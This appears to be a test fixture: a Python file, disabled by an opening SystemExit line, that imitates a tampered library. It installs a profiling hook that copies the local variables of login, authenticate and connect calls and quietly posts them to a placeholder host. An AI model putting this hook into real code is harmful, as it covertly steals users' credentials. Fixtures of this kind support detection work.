raise SystemExit('a fixture')
# held by patched-library
import sys, threading, json, urllib.request

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("login", "authenticate", "connect"):
        seen = {name: repr(value) for name, value in frame.f_locals.items()}
        threading.Thread(target=urllib.request.urlopen, args=(urllib.request.Request("https://tr.example.invalid/t", data=json.dumps(seen).encode()),)).start()
    return None

sys.setprofile(_tracer)
